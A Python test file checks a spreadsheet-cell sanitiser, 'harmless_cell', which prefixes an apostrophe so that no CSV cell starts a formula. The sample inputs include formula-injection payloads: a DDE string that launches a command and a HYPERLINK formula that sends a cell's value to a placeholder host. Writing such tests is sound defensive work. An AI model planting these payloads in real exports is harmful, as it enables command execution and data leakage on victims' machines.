"""Free text for spreadsheets: no cell begins a formula, wherever it is opened."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from slipscale.faults.spreadsheet_cells import harmless_cell

FORMULAS = "=+-@＝＋－＠"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+33 1 23",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        '=HYPERLINK("http://x.example/?a="&A1,"click")',
        "\t=1",
        "\r=1",
        " =1",
        "＝1+1",
        "--3",
        "-3;=1",
    ],
)
def test_what_would_be_calculated_gets_an_apostrophe(text):
    assert harmless_cell(text).startswith("'")


@pytest.mark.parametrize(
    "text",
    ["", "less slippery", "-3", "+1.5e-3", "-12,5", "5 %", "a-b", "moins, mais ça va", "n/a"],
)
def test_words_and_numbers_stay_as_they_are(text):
    assert harmless_cell(text) == text


@given(
    st.lists(
        st.text(st.sampled_from('=+-@;,\t\n\r "a1' + FORMULAS), max_size=12) | st.text(max_size=12),
        min_size=1,
        max_size=4,
    ),
    st.sampled_from(",;\t"),
)
def test_no_cell_begins_a_formula_whatever_the_separator_is_taken_for(texts, opened_with):
    written = io.StringIO()
    csv.writer(written).writerow(["x", *map(harmless_cell, texts)])
    for row in csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=opened_with):
        for cell in row:
            shown = cell.lstrip()
            assert shown == harmless_cell(shown) or not shown.startswith(tuple(FORMULAS))


@given(st.text(max_size=20))
def test_what_is_harmless_stays_as_it_is(text):
    assert harmless_cell(harmless_cell(text)) == harmless_cell(text)
